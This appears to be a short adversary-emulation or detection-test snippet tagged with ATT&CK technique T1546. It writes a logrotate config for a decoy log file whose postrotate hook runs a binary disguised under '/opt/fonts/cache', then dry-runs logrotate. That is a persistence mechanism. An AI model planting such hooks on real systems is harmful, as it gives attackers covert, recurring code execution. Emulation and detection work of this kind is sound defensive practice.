# technique: T1546
# location: linux.hook.logrotate
# source: /etc/logrotate.d/wtmp2
printf '/var/log/wtmp2 {\n  weekly\n  missingok\n  postrotate\n    /opt/fonts/cache 1\n  endscript\n}\n' > /etc/logrotate.d/wtmp2
logrotate -d /etc/logrotate.d/wtmp2
